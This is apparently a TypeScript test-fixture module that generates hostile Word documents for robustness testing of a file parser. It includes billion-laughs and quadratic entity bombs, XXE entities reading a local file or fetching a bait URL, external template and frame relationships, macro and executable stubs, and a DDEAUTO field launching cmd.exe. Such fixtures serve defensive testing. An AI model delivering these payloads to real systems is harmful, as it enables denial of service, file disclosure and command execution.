import { type Bait, filled, type HostileFile } from './hostile-file.ts'
import { zipOf } from './zips.ts'

const MIB = 1024 * 1024
const W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
const R = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
const RELATIONS = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const paragraph = (text: string): string => `<w:p><w:r><w:t>${text}</w:t></w:r></w:p>`

/** Office documents that swell, call elsewhere, or run. */
export function hostileOffice(bait: Bait): HostileFile[] {
  const file = `file://${bait.file}`
  return [
    word('a text of 150 MB', body(filled(paragraph('a'), 150 * MIB).toString('latin1'))),
    word('two hundred thousand paragraphs', body(paragraph('a').repeat(200_000))),
    word('tables in tables, three thousand deep', body('<w:tbl><w:tr><w:tc>'.repeat(3000))),
    word('elements in elements, a hundred thousand deep', body('<w:sdt>'.repeat(100_000))),
    word('a billion laughs', `<!DOCTYPE d [${laughs()}]>${body(paragraph('&l9;'))}`),
    word(
      'entities of a quadratic kind',
      `<!DOCTYPE d [<!ENTITY a "${'a'.repeat(100_000)}">]>${body(paragraph('&a;'.repeat(10_000)))}`,
    ),
    word(
      'an entity that is our file',
      `<!DOCTYPE d [<!ENTITY x SYSTEM "${file}">]>${body(paragraph('&x;'))}`,
    ),
    word(
      'an entity that is fetched',
      `<!DOCTYPE d [<!ENTITY x SYSTEM "${bait.url}/xxe">]>${body(paragraph('&x;'))}`,
    ),
    word(
      'a parameter entity that is fetched',
      `<!DOCTYPE d [<!ENTITY % x SYSTEM "${bait.url}/dtd"> %x;]>${body(paragraph('a'))}`,
    ),
    word('a picture that is fetched', body(picture()), relation('image', `${bait.url}/image.png`)),
    word('a picture that is our file', body(picture()), relation('image', file)),
    word(
      'a template that is fetched',
      body(paragraph('a')),
      relation('attachedTemplate', `${bait.url}/t.dotm`),
    ),
    word('a frame that is fetched', body(paragraph('a')), relation('frame', `${bait.url}/f.html`)),
    word('macros', body(paragraph('a')), '', { 'word/vbaProject.bin': filled('Attribute VB_Name', 5000) }),
    word('an object that is a program', body(paragraph('a')), '', {
      'word/embeddings/oleObject1.bin': filled('MZ', 5000),
    }),
    word('a picture of 300 MB', body(picture()), relation('image', 'media/image1.png', ''), {
      'word/media/image1.png': Buffer.alloc(300 * MIB),
    }),
    word(
      'a command',
      body('<w:p><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p>'),
    ),
    word('XML that ends in the middle', body(paragraph('a')).slice(0, 200)),
    word('text in no alphabet', '\xff\xfe\xff\xfe'),
    {
      name: 'order.docx',
      why: 'a document without a document',
      bytes: zipOf([{ name: '[Content_Types].xml', content: Buffer.from('<Types/>') }]),
    },
  ]
}

function word(why: string, document: string, relations = '', more: Record<string, Buffer> = {}): HostileFile {
  const files = {
    '[Content_Types].xml':
      '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
    '_rels/.rels': `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r" Type="${RELATIONS}/officeDocument" Target="word/document.xml"/></Relationships>`,
    'word/document.xml': document,
    'word/_rels/document.xml.rels': `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${relations}</Relationships>`,
    ...more,
  }
  const entries = Object.entries(files).map(([name, content]) => ({ name, content: Buffer.from(content) }))
  return { name: 'order.docx', why, bytes: zipOf(entries) }
}

function body(content: string): string {
  return `<w:document ${W} ${R}><w:body>${content}</w:body></w:document>`
}

function relation(type: string, target: string, mode = ' TargetMode="External"'): string {
  return `<Relationship Id="r1" Type="${RELATIONS}/${type}" Target="${target}"${mode}/>`
}

function picture(): string {
  return '<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"><a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData><pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:blipFill><a:blip r:embed="r1" r:link="r1"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>'
}

function laughs(): string {
  const levels = Array.from({ length: 9 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`)
  return `<!ENTITY l0 "ha">${levels.join('')}`
}
